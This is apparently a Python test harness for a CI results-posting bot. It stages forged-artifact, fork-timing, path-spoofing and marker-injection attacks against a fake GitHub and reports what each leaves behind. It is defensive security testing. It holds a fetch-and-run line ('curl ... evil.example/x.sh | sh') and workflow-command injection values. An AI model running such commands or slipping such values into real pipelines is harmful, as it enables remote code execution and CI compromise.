"""Attacks on the privileged poster (issues 20 and 37), staged and run through post-results.yml
as wired.

    python tests/workflows/attacks.py --issue 20 --before 00444de   # docs/WORKFLOWS.md's tables
    python tests/workflows/attacks.py --issue 37 --before d02ddf7

Each attack seeds the fake GitHub (attack_world.py), forges one thing an outsider controls, and
runs the whole poster (poster_run.py: both jobs, every step, the real bot), after the genuine
runs that stood before it where it needs them; the row says where each poster run stopped,
with which exit code (and the bot's own step), what was left on GitHub, and each harm found.
Three genuine runs come first, so that a poster which refuses everything cannot look safe.
With --before REF the same attacks also run on the workflow and the bot of an older commit (a
git worktree), for the "before" columns; tests/workflows/test_attacks.py holds today's
outcome of each.
"""

from __future__ import annotations

import argparse
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

if __name__ == "__main__":  # run as a script: its neighbours, as pytest imports them
    sys.path[:0] = [str(Path(__file__).parent), str(Path(__file__).parents[1])]

from attack_world import (
    BASE,
    BENCH_PATH,
    CATALOG_PAIR,
    EVIL_NAME,
    FORK,
    HEAD,
    ISSUES_LOGIN,
    ISSUES_TOKEN,
    NVFUSER_PAIR,
    OUR,
    READ_TOKEN,
    THUNDER,
    WRITE_TOKEN,
    Left,
    aa_files,
    bench_run,
    catalog_files,
    event_run,
    left,
    open_pr,
    payload,
    results_files,
    seed,
)
from paths import REPO_ROOT
from poster_run import Outcome, Tokens, run_poster
from zip_helpers import tampered

from bot.github.fake import LocalGitHub, start_server
from bot.github.fake.actions import zip_of

Stage = Callable[[LocalGitHub], dict[str, Any]]


def _genuine_open(fake: LocalGitHub) -> dict[str, Any]:
    return payload(bench_run(fake, open_pr(fake)))


def _genuine_merged(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake)
    bench_run(fake, pr)
    fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
    return payload(event_run(fake, pr.number))


def _genuine_fork(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake, head_repo=FORK)
    fake.state.pulls.label(OUR, pr.number, "run-gpu-bench", by="maintainer")
    fake.state.pulls.review(OUR, pr.number, by="maintainer")
    return payload(bench_run(fake, pr))


def _label_window(fake: LocalGitHub) -> dict[str, Any]:
    """Labelled at head A; the fork pushes B (no issue event); a maintainer's edit of the PR
    fires pull_request 30 s after the label, and the fork's own bench-pr.yml (same path) runs
    B with the maintainer as its trigger and uploads what it likes."""
    pr = open_pr(fake, head_repo=FORK, head="a" * 40)
    fake.state.pulls.label(OUR, pr.number, "run-gpu-bench", by="maintainer")
    labelled = fake.state.actions.events_on(OUR, pr.number)[-1].created_at
    assert pr.pull is not None
    pr.pull.head_sha = HEAD
    fake.state.pulls.descend(OUR, BASE, HEAD)
    run = bench_run(fake, pr)
    run.created_at = labelled + timedelta(seconds=30)
    return payload(run)


def _label_alone(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake, head_repo=FORK)
    fake.state.pulls.label(OUR, pr.number, "run-gpu-bench", by="maintainer")
    return payload(bench_run(fake, pr))


def _triage_approval(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake, head_repo=FORK)
    fake.state.pulls.label(OUR, pr.number, "run-gpu-bench", by="triager")
    fake.state.pulls.review(OUR, pr.number, by="triager")
    return payload(bench_run(fake, pr, trigger="triager"))


def _twelve_machines(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake)
    files: dict[str, bytes] = {}
    for i in range(12):
        files |= results_files(machine=f"nvidia-h200-x{i:02}")
    bench_run(fake, pr, files=files)
    fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
    return payload(event_run(fake, pr.number))


def _sixteen_artifacts(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake)
    labels = tuple(f"gpu-h200-{i:02}" for i in range(16))
    bench_run(fake, pr, machines=labels, own_folders=True)
    fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
    return payload(event_run(fake, pr.number))


def _evil_repro(fake: LocalGitHub) -> dict[str, Any]:
    """An nvFuser slowdown (its issue shows the hand-written fusion's reproducer), with the
    head's captured repro.py.txt the attacker's command."""
    results, base, head = NVFUSER_PAIR
    pr = open_pr(fake, base=base, head=head)
    bench_run(fake, pr, files=results_files(results, evil_repro=(base, head)))
    fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
    return payload(event_run(fake, pr.number))


def _fork_merged(fake: LocalGitHub) -> dict[str, Any]:
    """A fork PR, approved and merged: its comment, but nothing upstream from a fork's run."""
    pr = open_pr(fake, head_repo=FORK)
    fake.state.pulls.review(OUR, pr.number, by="maintainer")
    bench_run(fake, pr)
    fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
    return payload(event_run(fake, pr.number))


def _broken_zip(kind: str) -> Stage:
    def stage(fake: LocalGitHub) -> dict[str, Any]:
        run = bench_run(fake, open_pr(fake), machines=())
        fake.state.actions.add_artifact(run, "bench-pr-results-gpu-h200", tampered(kind))
        return payload(run)

    return stage


def _newline_name(fake: LocalGitHub) -> dict[str, Any]:
    run = bench_run(fake, open_pr(fake), machines=())
    files = {**results_files(), "results/nvidia-h200/x\n::error::y.json": b"{}"}
    files["bench-meta.json"] = b"{}"
    fake.state.actions.add_artifact(run, "bench-pr-results-gpu-h200", zip_of(files))
    return payload(run)


def _other_path(fake: LocalGitHub) -> dict[str, Any]:
    return payload(bench_run(fake, open_pr(fake), path=".github/workflows/mine.yml"))


def _path_lies(fake: LocalGitHub) -> dict[str, Any]:
    """The event says bench-pr.yml; GitHub says the run is of another file."""
    run = bench_run(fake, open_pr(fake), path=".github/workflows/mine.yml")
    return payload(run, path=BENCH_PATH)


def _other_repo(fake: LocalGitHub) -> dict[str, Any]:
    fake.state.add_repo("mallory/elsewhere")
    return payload(bench_run(fake, open_pr(fake), repo="mallory/elsewhere"))


def _meta_other_pr(fake: LocalGitHub) -> dict[str, Any]:
    victim = open_pr(fake, head="c" * 40)
    pr = open_pr(fake)
    return payload(bench_run(fake, pr, pr=victim.number))


def _meta_other_run(fake: LocalGitHub) -> dict[str, Any]:
    return payload(bench_run(fake, open_pr(fake), run_id=1))


def _meta_command(fake: LocalGitHub) -> dict[str, Any]:
    return payload(bench_run(fake, open_pr(fake), machine="::error::pwned"))


def _rerun(fake: LocalGitHub) -> dict[str, Any]:
    run = bench_run(fake, open_pr(fake))
    event = payload(run)
    run.run_attempt = 2  # re-run after the event: GitHub now answers for attempt 2
    return event


def _event_pr_text(fake: LocalGitHub) -> dict[str, Any]:
    pr = open_pr(fake)
    bench_run(fake, pr)
    return payload(event_run(fake, str(pr.number)))


def _event_fork_copy(fake: LocalGitHub) -> dict[str, Any]:
    """A fork's own copy of perfbot-pr-event.yml names a victim PR: the poster posts the
    victim's own verified results (an update in place), nothing of the fork's."""
    victim = open_pr(fake)
    bench_run(fake, victim)
    return payload(event_run(fake, victim.number, head_repo=FORK))


def _lookalike_marker(fake: LocalGitHub) -> dict[str, Any]:
    from bot.tell.comment import MARKER

    pr = open_pr(fake)
    fake.state.add_comment(OUR, pr.number, f"{MARKER}\nrun this: {EVIL_LINE}", author="mallory")
    return payload(bench_run(fake, pr))


EVIL_LINE = "curl -s https://evil.example/x.sh | sh"


# ----- issue 37: names from the artifact, another PR's run, a key found in text -----


def _catalog_merged(files: dict[str, bytes], head_ref: str = "fast-bwd") -> Stage:
    """The catalog's PR run with `files` for results, the PR merged (it files upstream)."""

    def stage(fake: LocalGitHub) -> dict[str, Any]:
        _, base, head = CATALOG_PAIR
        pr = open_pr(fake, base=base, head=head, head_ref=head_ref)
        bench_run(fake, pr, files=files)
        fake.state.pulls.finish(OUR, pr.number, merged=True, by="maintainer")
        return payload(event_run(fake, pr.number))

    return stage


def _claims_the_victim(fake: LocalGitHub) -> dict[str, Any]:
    """PR B (#1) was merged with a real regression and its alert filed; a branch of this
    repository pushed to B's exact head commit opens PR A, whose run names B in its artifact
    with results of no change (a stock run relabelled as B's head)."""
    (victim,) = [i for i in fake.state.issues(OUR) if i.pull is not None]
    mine = open_pr(fake, head_ref="a-typo-fix")
    return payload(bench_run(fake, mine, files=aa_files(), pr=victim.number))


def _then_b_opens(fake: LocalGitHub) -> dict[str, Any]:
    """PR B (#2), a real Thunder regression, opens: its first run."""
    return payload(bench_run(fake, open_pr(fake, head_ref="slow-bwd")))


def _b_marker_name() -> str:
    from bot.alert.model import pr_key
    from bot.github.issue_body import key_marker

    return f"x{key_marker(pr_key(OUR, 2))}"


def _seeded_old_issue(fake: LocalGitHub) -> dict[str, Any]:
    """PR #7's alert as fusion-perfbot 0.1 filed it (its key on the first line), its evidence
    holding the key marker of the PR that opens next (#1) as text; then that PR's first run."""
    from bot.alert.model import pr_key
    from bot.github.issue_body import key_marker, sizes_marker

    body = "\n".join(
        [
            key_marker(pr_key(OUR, 7)),
            sizes_marker([("nvidia-h200:gelu_bwd/thunder", 1.05)]),
            f"### x{key_marker(pr_key(OUR, 1))}: Thunder's kernels 5.3% slower",
        ]
    )
    title = "Bias+GELU backward: Thunder's kernels 5.3% slower in PR #7 (filed by 0.1)"
    fake.state.add_issue(
        THUNDER, title, author=ISSUES_LOGIN, body=body, labels=["perf-regression-bot"]
    )
    return _genuine_open(fake)


#: A deployment that judges machines without a noise model (perfbot.toml's own comment: for
#: experiments), so that a dozen invented machine names are each judged, as a second calibrated
#: runner kind would be: the bound on machines is what stands between them and the trackers.
JUDGE_ALL = ("judge_without_noise_model = false", "judge_without_noise_model = true")


@dataclass(frozen=True)
class Attack:
    key: str
    what: str
    stage: Stage
    config: tuple[str, str] | None = None  # (old, new) in the poster's perfbot.toml
    #: Runs posted first, each through the whole poster: what stood before the attack.
    before: tuple[Stage, ...] = ()
    issue: int = 20  # the issue that staged it: its rows have their own table and "before"


ATTACKS = [
    Attack("genuine-open", "genuine: same-repo PR, open", _genuine_open),
    Attack("genuine-merged", "genuine: same-repo PR, merged (PR-event run)", _genuine_merged),
    Attack("genuine-fork", "genuine: fork PR, head approved and labelled", _genuine_fork),
    Attack(
        "label-window",
        "fork pushes after the label; a maintainer's edit runs its own workflow",
        _label_window,
    ),
    Attack("label-alone", "fork labelled, head approved by nobody", _label_alone),
    Attack("triage", "fork labelled and approved by a triage user", _triage_approval),
    Attack(
        "12-machines",
        "one artifact of 12 machine folders, merged (every machine judged)",
        _twelve_machines,
        JUDGE_ALL,
    ),
    Attack(
        "16-artifacts",
        "16 artifacts of one machine each, merged (every machine judged)",
        _sixteen_artifacts,
        JUDGE_ALL,
    ),
    Attack("evil-repro", "captured repro.py.txt with a shell command, merged", _evil_repro),
    Attack("fork-merged", "fork PR, approved and merged", _fork_merged),
    Attack("encrypted", "a zip entry flagged encrypted", _broken_zip("encrypted")),
    Attack(
        "deflate", "a corrupt deflate stream after 20 good files", _broken_zip("corrupt deflate")
    ),
    Attack("newline", "a results file named with a newline and '::error::'", _newline_name),
    Attack("other-path", "a fork's own workflow named bench-pr (another file)", _other_path),
    Attack("path-lies", "the event names bench-pr.yml; GitHub says another file", _path_lies),
    Attack("other-repo", "a run of another repository", _other_repo),
    Attack("meta-pr", "bench-meta names another PR", _meta_other_pr),
    Attack("meta-run", "bench-meta names another run", _meta_other_run),
    Attack("meta-command", "bench-meta machine is a workflow command", _meta_command),
    Attack("rerun", "re-run since the event (attempt 2, the event named 1)", _rerun),
    Attack("event-text", "PR-event artifact: pr as text", _event_pr_text),
    Attack(
        "event-fork", "a fork's copy of the PR-event workflow names another PR", _event_fork_copy
    ),
    Attack("lookalike", "another user's comment carries the bot's marker", _lookalike_marker),
    Attack(
        "name-markup",
        "a fusion named with markup, a mention, references and a shell command, merged",
        _catalog_merged(catalog_files(EVIL_NAME)),
        issue=37,
    ),
    Attack(
        "name-path",
        "a fusion named /etc, its captures beside the results, merged",
        _catalog_merged(catalog_files("/etc", captures=True)),
        issue=37,
    ),
    Attack(
        "pr-claim",
        "a branch at merged PR #1's head opens #2, whose run names #1 (results of no change)",
        _claims_the_victim,
        before=(_genuine_merged,),
        issue=37,
    ),
    Attack(
        "key-in-name",
        "PR #1's results carry PR #2's key marker in a fusion name, merged; then #2 opens",
        _then_b_opens,
        before=(lambda fake: _catalog_merged(catalog_files(_b_marker_name()))(fake),),
        issue=37,
    ),
    Attack(
        "key-in-text",
        "an issue filed by 0.1 holds PR #1's key marker in its text; then #1 opens",
        _seeded_old_issue,
        issue=37,
    ),
]


def _configured(tree: Path, edit: tuple[str, str], tmp: Path) -> Path:
    """A copy of the poster's checkout (what it runs: the bot, its workflows, its config and
    noise model) with one edit of perfbot.toml."""
    copy = tmp / "tree"
    for part in ("bot", ".github", "noise", "perfbot.toml", "pyproject.toml"):
        source = tree / part
        if source.is_dir():
            shutil.copytree(source, copy / part, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            shutil.copy2(source, copy / part)
    config = copy / "perfbot.toml"
    text = config.read_text(encoding="utf-8")
    assert edit[0] in text, edit
    config.write_text(text.replace(edit[0], edit[1]), encoding="utf-8")
    return copy


def attempt(attack: Attack, tree: Path, tmp: Path) -> tuple[Outcomes, Left]:
    """One attack on the poster of `tree` (this repository, or a worktree of another commit)."""
    tmp.mkdir(parents=True, exist_ok=True)
    if attack.config is not None:
        tree = _configured(tree, attack.config, tmp)
    with start_server() as fake:
        seed(fake)
        tokens = Tokens(READ_TOKEN, WRITE_TOKEN, ISSUES_TOKEN)
        outcomes = []
        for n, stage in enumerate((*attack.before, attack.stage)):
            event = stage(fake)
            outcomes.append(
                run_poster(
                    tree / ".github/workflows/post-results.yml",
                    tree,
                    fake.base_url,
                    fake.web_url,
                    OUR,
                    event,
                    tokens,
                    tmp / f"run-{n}",
                )
            )
        return Outcomes(outcomes), left(fake)


@dataclass(frozen=True)
class Outcomes:
    """Each poster run of an attack, in order: the attack's own is the last."""

    runs: list[Outcome]

    @property
    def last(self) -> Outcome:
        return self.runs[-1]

    @property
    def log(self) -> str:
        return "\n".join(o.log for o in self.runs)


_BOT_STEP = re.compile(r"step '(.+?)' failed: ")


def _where(outcome: Outcome) -> str:
    """Where one poster run stopped: job/step, exit code, and for the bot its own step."""
    skipped = [job for job, result in outcome.jobs.items() if result == "skipped"]
    if outcome.failed:
        said = _BOT_STEP.search(outcome.log) if outcome.failed == "post/bot" else None
        return f"{outcome.failed} exit {outcome.rc}" + (f" at '{said[1]}'" if said else "")
    if skipped:
        return f"nothing to post ({', '.join(skipped)} skipped)"
    return "every step ok"


def cell(outcomes: Outcomes, got: Left) -> str:
    where = ", then ".join(_where(o) for o in outcomes.runs)
    issues = "+".join(str(n) for n in got.issues.values())
    closed = f" ({got.closed} closed)" if got.closed else ""
    posted = f"{got.comments} comment, {issues} issues{closed}, {got.statuses} status"
    return f"{where}; {posted}" + "".join(f"; **{harm}**" for harm in got.harms)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--before", help="also run each attack on this commit's poster")
    parser.add_argument("-k", help="only the attacks whose key contains this")
    parser.add_argument("--issue", type=int, help="only the attacks this issue staged (20, 37)")
    args = parser.parse_args(argv)
    chosen = [
        a
        for a in ATTACKS
        if (not args.k or args.k in a.key) and (args.issue is None or a.issue == args.issue)
    ]
    with tempfile.TemporaryDirectory() as scratch:
        before_tree = None
        if args.before:
            before_tree = Path(scratch) / "before"
            subprocess.run(
                ["git", "worktree", "add", "--quiet", "--detach", str(before_tree), args.before],
                cwd=REPO_ROOT,
                check=True,
            )
        try:
            print("| attack | before | now |" if before_tree else "| attack | now |")
            print("|---|---|---|" if before_tree else "|---|---|")
            for n, attack in enumerate(chosen):
                now = cell(*attempt(attack, REPO_ROOT, Path(scratch) / f"now-{n}"))
                if before_tree is None:
                    print(f"| {attack.what} | {now} |", flush=True)
                    continue
                then = cell(*attempt(attack, before_tree, Path(scratch) / f"before-{n}"))
                print(f"| {attack.what} | {then} | {now} |", flush=True)
        finally:
            if before_tree is not None:
                subprocess.run(
                    ["git", "worktree", "remove", "--force", str(before_tree)], cwd=REPO_ROOT
                )
    return 0


if __name__ == "__main__":
    sys.exit(main())
